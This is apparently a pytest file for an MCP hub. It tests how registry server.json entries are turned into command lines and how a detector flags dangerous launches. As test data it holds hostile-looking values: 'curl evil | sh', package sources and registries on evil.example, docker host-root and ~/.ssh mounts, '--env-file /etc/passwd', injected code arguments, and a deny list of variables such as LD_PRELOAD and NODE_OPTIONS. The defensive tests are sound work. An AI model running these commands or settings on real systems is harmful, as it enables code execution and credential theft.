"""A `server.json` of the MCP registry as an entry: the exact command line of each kind of package, and remotes."""

from pathlib import Path
from typing import Any

import msgspec
import pytest

from mcp_hub.config.load.interpolate import Reference, resolve, split_text
from mcp_hub.errors import ConfigError
from mcp_hub.onboarding.registry.dangers import dangers_of
from mcp_hub.onboarding.registry.server_json import command_of, entry_of, parse_server_json

STDIO = {"transport": {"type": "stdio"}}
KEY = {"name": "API_KEY", "isRequired": True, "isSecret": True}


def entry(document: object, given: dict[str, str] | None = None, *, is_remote: bool = False) -> object:
    detail = parse_server_json(msgspec.json.encode(document), "s.json")
    return entry_of(detail, given or {}, is_remote=is_remote)


def package(kind: str, identifier: str, **more: Any) -> Any:
    return {"name": "io.x/y", "packages": [{"registryType": kind, "identifier": identifier, **STDIO, **more}]}


def remote(url: str = "https://x.example", **more: Any) -> Any:
    return {"name": "a/b", "remotes": [{"type": "sse", "url": url, **more}]}


@pytest.mark.parametrize(
    ("document", "expected"),
    [
        (package("npm", "@a/b", version="1.0.0"), {"command": "npx", "args": ["-y", "@a/b@1.0.0"]}),
        (package("pypi", "b", version="2.1", runtimeHint="uvx"), {"command": "uvx", "args": ["b==2.1"]}),
        (
            package("oci", "ghcr.io/a/b", version="3", environmentVariables=[KEY]),
            {"command": "docker", "args": ["run", "-i", "--rm", "-e", "API_KEY", "ghcr.io/a/b:3"],
             "env": {"API_KEY": "${API_KEY}"}},
        ),
        (
            package("oci", "a/b:1", runtimeHint="podman", runtimeArguments=[
                {"type": "named", "name": "--mount", "value": "src={path},dst=/w",
                 "variables": {"path": {"default": "/home"}}}]),
            {"command": "podman", "args": ["run", "-i", "--rm", "--mount", "src=/home,dst=/w", "a/b:1"]},
        ),
        (
            package("npm", "b", packageArguments=[
                {"type": "positional", "valueHint": "folder", "isRequired": True},
                {"type": "named", "name": "--port", "default": "80"},
                {"type": "named", "name": "--quiet", "format": "boolean", "value": "true"},
                {"type": "named", "name": "--loud", "format": "boolean", "default": "false"},
                {"type": "named", "name": "--key", "value": "{token}", "variables": {"token": {"isSecret": True}}}]),
            {"command": "npx", "args": ["-y", "b", "/tmp", "--port", "80", "--quiet", "--key", "${TOKEN}"]},
        ),
    ],
)  # fmt: skip
def test_package_is_an_exact_command_line(document: object, expected: object) -> None:
    assert entry(document, {"folder": "/tmp"}) == expected


def test_remote_is_a_url_with_headers() -> None:
    far = {
        "type": "streamable-http",
        "url": "https://{region}.x.example/mcp",
        "headers": [{"name": "X-Api-Key", "isSecret": True}],
        "variables": {"region": {"default": "eu"}},
    }
    expected = {"url": "https://eu.x.example/mcp", "headers": {"X-Api-Key": "${X_API_KEY}"}}
    assert entry({"name": "a/b", "remotes": [far]}) == expected
    assert entry({**package("npm", "b"), "remotes": [far]}, is_remote=True) == expected
    us = entry({"name": "a/b", "remotes": [{**far, "type": "sse"}]}, {"region": "us", "X-Api-Key": "k"})
    assert us == {"url": "https://us.x.example/mcp", "type": "sse", "headers": {"X-Api-Key": "k"}}


@pytest.mark.parametrize(
    ("document", "code"),
    [
        ([], "invalid_server_json"),
        ({"name": "x"}, "unsupported_package"),
        (package("mcpb", "https://x/y.mcpb"), "unsupported_package"),
        (package("npm", "b", runtimeHint="bash"), "unsupported_package"),
        (package("npm", "--eval=1"), "invalid_server_json"),
        (package("npm", "b c"), "invalid_server_json"),
        (package("npm", "b", version="1 --x"), "invalid_server_json"),
        (package("npm", "b", packageArguments=[{"name": "p", "isRequired": True}]), "missing_parameter"),
        *((remote(headers=[{"name": name, "value": "v"}]), "invalid_server_json")
          for name in ("X\r\nY", "X: y", "", "é", "${file:x}")),
        (package("npm", "b", packageArguments=[
            {"type": "positional", "value": "${token}", "variables": {"token": {"isSecret": True}}}]),
         "invalid_placeholder"),  # a dollar before a reference cannot be written
    ],
)  # fmt: skip
def test_document_that_is_not_to_be_run_is_refused(document: object, code: str) -> None:
    with pytest.raises(ConfigError) as refused:
        entry(document)
    assert refused.value.code == code


def test_text_of_a_stranger_is_never_looked_up() -> None:
    own = {"name": "A", "default": "${HOME}"}
    assert entry(package("npm", "b", environmentVariables=[own])) == {
        "command": "npx", "args": ["-y", "b"], "env": {"A": "$${HOME}"},
    }  # fmt: skip


SECRETS = ("cmd:touch hit", "file:~/.vault-token", "keyring:mcp-hub/github", "env:MY_VAR", "MY_VAR")
"""The insides of placeholders that would read something of this machine."""


def looked_up(tree: object) -> set[str]:
    """The references in the texts of an entry."""
    if isinstance(tree, str):
        return {part.text for part in split_text(tree) if isinstance(part, Reference)}
    inner = tree.values() if isinstance(tree, dict) else tree if isinstance(tree, list) else ()
    return {text for value in inner for text in looked_up(value)}


@pytest.mark.parametrize("inside", SECRETS)
@pytest.mark.parametrize(
    "template", ["${{{0}}}", "$${{{0}}}", "$$${{{0}}}", "{{dollar}}{{{0}}}", "{{dollar}}{{brace}}", "${{brace}}", "$",
                 "{{brace}}", "x$", "{{dollar}}"],
)  # fmt: skip
def test_values_of_a_document_read_nothing_however_they_meet(template: str, inside: str) -> None:
    text = template.format(inside)
    variables = {"dollar": {"value": "$"}, "brace": {"default": f"{{{inside}}}"}, "all": {"default": f"${{{inside}}}"}}
    fixed = {"value": text, "variables": variables}
    both = {"value": f"{text}{{brace}}{{all}}", "variables": variables}
    for own in (fixed, both, {"default": text}, {"default": f"${{{inside}}}"}):
        inputs = [{"name": "A", **own}]
        named = [{"type": "named", "name": f"--{text}", **own}, {"type": "positional", **own}]
        local = package("npm", "b", environmentVariables=inputs, packageArguments=named, runtimeArguments=named)
        far = remote(f"https://x.example/{text}{{all}}", variables=variables, headers=inputs)
        assert looked_up(entry(local)) == looked_up(entry(far)) == set()


def test_values_of_a_document_arrive_as_they_are_written(tmp_path: Path) -> None:
    own = {"name": "A", "value": "$$${B}{dollar}{brace}$", "variables": {
        "dollar": {"value": "$"}, "brace": {"value": "{HOME}"}}}  # fmt: skip
    made: Any = entry(package("npm", "b", environmentVariables=[own]))
    assert resolve(made["env"]["A"], {"HOME": "/h", "B": "b"}, tmp_path).text == "$$${B}${HOME}$"


@pytest.mark.parametrize("name", ["file:~/.vault-token", "keyring:a/b", "A:-x", "A}{B", "", "é", "1A", "a b", "a-b"])
def test_names_of_variables_are_names(name: str) -> None:
    needed = {"isRequired": True}
    header = {"name": "X", "value": "{a}", "variables": {name: needed}}
    documents = [
        package("npm", "b", environmentVariables=[{"name": name, **needed}]),
        package("npm", "b", packageArguments=[{"type": "positional", "value": "{a}", "variables": {name: needed}}]),
        remote(headers=[header]),
        remote("https://x.example/{a}", variables={name: needed}),
    ]
    for document in documents:
        with pytest.raises(ConfigError) as refused:
            entry(document)
        assert refused.value.code == "invalid_server_json"


BROKEN = (b'{"name": "\xed\xa0\x80"}', b"[" * 100_000, b'{"a":' * 100_000, b"\xff", b"")


@pytest.mark.parametrize(
    ("content", "code", "line"),
    [
        (b'{"name":\n"a\\ud800"}', "invalid_text", 2),
        (b'{"name": "\\\\ud800 \\ud83d\\ude00",\n\n"x": "\\uDFFF"}', "invalid_text", 3),
        *((content, "invalid_server_json", None) for content in BROKEN),
    ],
)
def test_bytes_that_are_no_document_are_an_error_and_a_lone_surrogate_has_its_line(
    content: bytes, code: str, line: int | None
) -> None:
    with pytest.raises(ConfigError) as refused:
        parse_server_json(content, "s.json")
    assert refused.value.code == code and line in (None, refused.value.findings[0].line)


def dangers(document: object, given: dict[str, str] | None = None) -> list[str]:
    command = command_of(parse_server_json(msgspec.json.encode(document), "s.json"), given or {})
    assert command is not None
    return dangers_of(command, given or {})


def runtime(kind: str, *words: str) -> Any:
    identifier = "ghcr.io/a/b" if kind == "oci" else "b"
    return package(kind, identifier, runtimeArguments=[{"type": "positional", "value": word} for word in words])


@pytest.mark.parametrize(
    "document",
    [
        runtime("npm", "-c", "curl evil | sh"), runtime("npm", "--call=sh"), runtime("npm", "-yc", "sh"),
        runtime("npm", "--package", "evil"), runtime("npm", "-p=evil"), runtime("npm", "evil"),
        runtime("npm", "--registry=https://evil.example"), runtime("npm", "--node-options=--require=/tmp/x"),
        runtime("npm", "--script-shell", "/tmp/x"), runtime("npm", "-y", "--", "evil"),
        runtime("pypi", "--from", "git+https://evil.example/x"), runtime("pypi", "--index-url=https://evil.example"),
        runtime("pypi", "--with", "evil"), runtime("pypi", "--python", "/tmp/p"),
        runtime("pypi", "--env-file", "x"),
        runtime("oci", "--privileged"), runtime("oci", "-v", "/:/host"), runtime("oci", "-v/:/host"),
        runtime("oci", "--volume=/:/host"), runtime("oci", "--mount", "type=bind,src=/,dst=/host"),
        runtime("oci", "--mount", 'type=bind,"src=/",dst=/host'), runtime("oci", "--mount", "type=bind,SRC=/,dst=/h"),
        runtime("oci", "--mount", "type=bind,src=x,src=/,dst=/h"), runtime("oci", "-v", "~/.ssh:/k"),
        runtime("oci", "--network", "host"), runtime("oci", "--pid=host"), runtime("oci", "--env-file", "/etc/passwd"),
        runtime("oci", "--entrypoint", "sh"), runtime("oci", "-H", "tcp://evil"), runtime("oci", "exec", "x", "sh"),
        runtime("oci", "--cap-add=ALL"), runtime("oci", "--device", "/dev/sda"), runtime("oci", "run", "evil"),
        runtime("oci", "--security-opt", "seccomp=unconfined"), runtime("oci", "--name", "--privileged"),
        runtime("oci", "-v"), runtime("oci", "--volumes-from", "x"),
        package("npm", "https://evil.example/x.tgz"), package("npm", "git+https://evil.example/x.git#main"),
        package("npm", "evil/repository"), package("npm", "github:a/b"), package("npm", "file:../x"),
        package("npm", "./x"), package("npm", "/tmp/x"), package("npm", "~/x"), package("npm", "x.tgz"),
        package("npm", "a@npm:evil"), package("npm", "a@https://x"), package("npm", "node"), package("npm", "npm@9"),
        package("pypi", "git+ssh://evil.example/x"), package("pypi", "x@git+https://evil"), package("pypi", "x.whl"),
        package("pypi", "python3.12"), package("pypi", "https://evil.example/x.whl"),
        *(package("npm", f"foo@{spec}") for spec in (".", "..", ".hidden", "..x", "-x", "~", "^", "/x", "~/x", "C:x")),
        *(package("npm", name) for name in (".", "..", ".x", "@./x", "@a/.x", "foo@x.tgz", "a/b", "foo@a/b")),
        *(package("pypi", f"foo@{spec}")
          for spec in ("evildir", ".", "..", "LATEST", "1evil", "1.0.evil", "9" * 30, "v", "latest1", "1+", "x@1")),
        *(package("pypi", name) for name in ("foo==evildir", "foo.", "foo===1", "foo[x]@dir", "foo@1.0.*", ".")),
        package("oci", "dir:evil"), package("oci", "dir", version="evil"), package("oci", "oci-archive:x"),
        package("oci", "docker-archive:x"), package("oci", "containers-storage:x"),
        runtime("oci", "-v", "postgres_data:/x"), runtime("oci", "-v", "C:/Users:/x"), runtime("oci", "-v", "C:\\:/x"),
        runtime("oci", "--mount", "type=bind,src=home,dst=/x"), runtime("oci", "--mount", "src=data,dst=/x"),
        runtime("oci", "--mount", "type=volume,source=postgres_data,target=/x"), runtime("oci", "-v", "."),
        runtime("oci", "--volume=data:/x"), runtime("oci", "-v", ":/x"), runtime("oci", "-v", ""),
        *(package("npm", name) for name in ("@babel/node", "@babel/node@7.2.0", "vite-node", "esno", "nodemon@3",
                                            "supergateway", "mcp-proxy", "ts_node", "TSX", "cross-env", "node@22")),
        *(package("pypi", name) for name in ("xonsh", "hy", "hy==1.0", "mcp-proxy", "mcp_proxy[x]", "ipython", "Python",
                                             "watchfiles", "fastmcp", "pytest", "uv@latest")),
        *(
            package("npm", "b", environmentVariables=[{"name": name, "value": "x"}])
            for name in ("LD_PRELOAD", "NODE_OPTIONS", "npm_config_registry", "PATH", "PYTHONPATH", "UV_INDEX_URL",
                         "https_proxy", "BASH_ENV", "NODE_EXTRA_CA_CERTS", "DYLD_INSERT_LIBRARIES", "GIT_SSH_COMMAND")
        ),
    ],
)  # fmt: skip
def test_command_that_can_run_more_than_a_package_is_dangerous(document: object) -> None:
    assert dangers(document)


@pytest.mark.parametrize(
    "document",
    [
        package("npm", "@a/b", version="1.0.0"), runtime("npm", "-y", "--quiet"), package("npm", "b@1.2.3"),
        package("pypi", "b[x]", version="1"), runtime("pypi", "--python", "3.12", "--isolated"),
        package("oci", "ghcr.io/a/b:1@sha256:" + "a" * 64), package("oci", "localhost:5000/a/b", version="1"),
        runtime("oci", "run", "-it", "--rm", "--memory=512m", "-e", "A=b c", "--network", "none", "-v", "/data"),
        runtime("oci", "--mount", "type=volume,dst=/data,readonly", "--mount", "type=tmpfs,dst=/tmp"),
        *(package("npm", f"foo@{spec}") for spec in ("1", "1.2.3-rc.1+b", "^1.2", "~1.2", ">=1", "1.x", "*", "latest",
                                                     "next", "beta-2", "v1")),
        *(package("npm", name) for name in ("@a/b@1.0", "node-fetch", "@a/node-x", "server-node", "mcp-server-git")),
        *(package("pypi", f"foo{spec}") for spec in ("@latest", "@1.2", "==1.2.*", "@1.0rc1", "@v1!2.0.post1.dev3+ab.c",
                                                     "==1.0-1", "[a,b]@2", "_b-c.d")),
        *(package("pypi", name) for name in ("mcp-server-time", "python-gitlab-mcp", "hyx", "mcp-server-docker")),
        package("oci", "docker.io/a/dir:1"), package("oci", "ghcr.io/a/oci", version="2"),
        package("npm", "b", environmentVariables=[{"name": "NODE_ENV", "value": "x"}, KEY]),
        package("pypi", "b", environmentVariables=[{"name": "PYTHONUNBUFFERED", "value": "1"}]),
        package("npm", "b", packageArguments=[{"type": "named", "name": "-c", "value": "config.json"}]),
    ],
)  # fmt: skip
def test_command_of_a_package_is_not_dangerous(document: object) -> None:
    assert dangers(document) == []


def test_folder_that_the_person_names_is_not_dangerous() -> None:
    source = {"value": "{folder}:/data", "type": "positional", "variables": {"folder": {"default": "/"}}}
    document = package("oci", "a/b", runtimeArguments=[{"type": "positional", "value": "-v"}, source])
    assert dangers(document)
    assert dangers(document, {"folder": "/home/me/data"}) == []


@pytest.mark.parametrize("folder", ["/home/me/data", "C:/Users/me", "my_data"])
def test_folder_and_volume_of_the_person_are_not_dangerous_as_they_are(folder: str) -> None:
    person = {"folder": folder, "empty": ""}
    for template, is_dangerous in (
        ("{folder}:/data", False), ("{folder}:/data:ro", False), ("{folder}/..:/data", True), ("{empty}:/data", True),
        ("{folder}", not folder.startswith("/")), ("{folder}:/data:rshared", True), ("x{folder}:/data", True),
    ):  # fmt: skip
        source = {"value": template, "variables": {"folder": {}, "empty": {}}}
        document = runtime("oci", "-v")
        document["packages"][0]["runtimeArguments"].append({"type": "positional", **source})
        assert bool(dangers(document, person)) is is_dangerous, template
    source = {"name": "--mount", "value": "type=bind,src={folder},dst=/x", "variables": {"folder": {}}}
    document = package("oci", "a/b", runtimeArguments=[{"type": "named", **source}])
    assert dangers(document, person) == [] and dangers(document, {"folder": "", "x": ""})


def arguments(*words: str) -> object:
    return package("npm", "b", packageArguments=[{"type": "positional", "value": word} for word in words])


@pytest.mark.parametrize(
    "words",
    [
        ["-e", "require('child_process')"], ["-c", "touch x"], ["-c", "import os;os.system('x')"], ["-pe", "f(1)"],
        ["-ef(1)"], ["--eval", "x"], ["--eval=x"], ["--exec", "evil"], ["--command", "evil"], ["--cmd=evil"],
        ["--stdio", "npx evil"], ["--stdio=evil serve"], ["--server-command", "evil"], ["--stdio", "npx"],
        ["--", "sh", "x"], ["npx", "evil"], ["uvx", "evil"], ["--port", "1", "--", "/bin/bash"],
        ["-y", "--", "node.exe"],
        ["--anything", "bash -c x"], ["--require", "data:text/javascript,x"], ["--import=data:,x"], ["-e", "$IFS"],
        ["-r", "a|b"], ["--on-connect", "rm x"], ["python3.12", "-m", "x"],
    ],
)  # fmt: skip
def test_argument_that_is_a_command_or_code_is_dangerous(words: list[str]) -> None:
    assert dangers(arguments(*words))
    person = {"it": words[-1]}
    if "=" not in words[-1] and len(words) == 2 and words[0] not in ("npx", "uvx"):
        assert dangers(arguments(*words), person) == []


@pytest.mark.parametrize(
    "words",
    [
        ["-c", "config.json"], ["-c", "/etc/x/config.yaml"], ["-e", "production"], ["-p", "8080"], ["--stdio"],
        ["--stdio", "--port", "80"], ["--transport", "stdio"], ["--run", "true"], ["--port=80"], ["--filter", "a|b"],
        ["--root", "/tmp/x y"], ["--runtime", "node"], ["--query", "select (1)"], ["stdio"], ["serve", "-v"],
        ["-e", "A=b"],
        ["--key", "${KEY}"], ["--allowed-commands", "ls,cat"], ["/data"], ["--json", '{"a": 1}'], ["start", "--http"],
        ["--url", "https://x.example/?a=1&b=2"], ["--description", "a node in a tree"],
    ],
)  # fmt: skip
def test_argument_of_a_server_is_not_dangerous(words: list[str]) -> None:
    assert dangers(arguments(*words)) == []


ORDINARY = """GITHUB_PERSONAL_ACCESS_TOKEN GITLAB_TOKEN LDAP_URL PIPEDRIVE_API_TOKEN BUNNY_API_KEY PIPELINE_ID
GITHUB_HOST GITHUB_TOKEN GITLAB_API_URL GITEA_ACCESS_TOKEN GIT_TOKEN GIT_AUTHOR_NAME GIT_COMMITTER_EMAIL GIT_REPO_PATH
GIT_USERNAME
SSH_HOST SSH_USER SSH_PORT DOCKER_USERNAME DOCKER_HUB_TOKEN CONTAINER_NAME CONTAINERAPP_ID NPM_TOKEN NODE_ENV NODE_NAME
PYTHONUNBUFFERED PYTHONIOENCODING PYTHONANYWHERE_API_TOKEN UVICORN_PORT UVINDEX_KEY PIPER_VOICE BUNDLER_ID
JAVASCRIPT_KEY JDBC_URL RUBYGEMS_API_KEY XDGURU_KEY LD_API_KEY LAUNCHDARKLY_ACCESS_TOKEN DENO_DEPLOY_TOKEN YARNGPT_KEY
CONDADB_TOKEN
OPENAI_API_KEY ANTHROPIC_API_KEY BRAVE_API_KEY TAVILY_API_KEY SLACK_BOT_TOKEN SLACK_TEAM_ID NOTION_TOKEN LINEAR_API_KEY
POSTGRES_CONNECTION_STRING DATABASE_URL REDIS_URL PGHOST PGPASSWORD MONGODB_URI AWS_REGION AWS_ACCESS_KEY_ID
GOOGLE_API_KEY GOOGLE_MAPS_API_KEY GOPLUS_KEY AZURE_TENANT_ID LOG_LEVEL RUST_LOG DEBUG PORT HOST API_BASE_URL TZ LANG
LC_ALL NO_COLOR USER_AGENT PATH_TO_DATA ALLOWED_PATHS HOMEASSISTANT_URL HOME_ASSISTANT_TOKEN SHELLY_HOST TEMPO_URL
TEMPERATURE EDITORIAL_ID BROWSERBASE_API_KEY BROWSERLESS_TOKEN PAGERDUTY_API_KEY ENVIRONMENT CCXT_KEY ASANA_TOKEN
PUPPETEER_HEADLESS PERLEGO_KEY MAKE_API_TOKEN CLOUDFLARE_API_TOKEN XATA_KEY MALLOCATE""".split()

CONTROLLING = """LD_PRELOAD LD_LIBRARY_PATH LD_AUDIT DYLD_INSERT_LIBRARIES DYLD_LIBRARY_PATH PATH HOME IFS ENV BASH_ENV
SHELL SHELLOPTS PS4 PROMPT_COMMAND ZDOTDIR NODE_OPTIONS NODE_PATH NODE_EXTRA_CA_CERTS NODE_TLS_REJECT_UNAUTHORIZED
PYTHONPATH PYTHONSTARTUP PYTHONHOME PYTHONWARNINGS PYTHONBREAKPOINT PYTHONUSERBASE PYTHONINSPECT npm_config_registry
NPM_CONFIG_SCRIPT_SHELL npm_execpath UV_INDEX_URL UV_PYTHON UV_NEW_THING PIP_INDEX_URL PIP_EXTRA_INDEX_URL BUN_INSTALL
GIT_SSH_COMMAND GIT_SSH GIT_EXEC_PATH GIT_CONFIG_GLOBAL GIT_CONFIG_COUNT GIT_ASKPASS GIT_PAGER GIT_PROXY_COMMAND
SSH_ASKPASS SSH_AUTH_SOCK EDITOR VISUAL PAGER BROWSER LESSOPEN OPENSSL_CONF OPENSSL_ENGINES SSL_CERT_FILE HOSTALIASES
LOCALDOMAIN RES_OPTIONS http_proxy HTTPS_PROXY ALL_PROXY NO_PROXY REQUESTS_CA_BUNDLE CURL_CA_BUNDLE SSLKEYLOGFILE CC CXX
LD CFLAGS LDFLAGS MAKEFLAGS CMAKE_TOOLCHAIN_FILE RUSTC_WRAPPER CARGO_HOME GOFLAGS GOPROXY PERL5OPT PERL5LIB RUBYOPT
RUBYLIB
JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS CLASSPATH DOTNET_STARTUP_HOOKS CORECLR_PROFILER GCONV_PATH LOCPATH
DOCKER_HOST DOCKER_CONFIG CONTAINER_HOST XDG_CONFIG_HOME MCP_HUB_CONFIG TMPDIR VIRTUAL_ENV GTK_MODULES PYTHON COMSPEC
PUPPETEER_EXECUTABLE_PATH ELECTRON_RUN_AS_NODE LUA_INIT PHPRC R_PROFILE GEM_PATH BUNDLE_GEMFILE Path
ld_preload""".split()


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_variable_is_not_dangerous(name: str) -> None:
    for own in ({"value": "x"}, {"isRequired": True}):
        assert dangers(package("npm", "b", environmentVariables=[{"name": name, **own}])) == []


@pytest.mark.parametrize("name", CONTROLLING)
def test_variable_that_decides_what_is_loaded_is_dangerous(name: str) -> None:
    document = package("npm", "b", environmentVariables=[{"name": name, "default": "x"}])
    assert dangers(document) and dangers(document, {name: "mine"}) == []
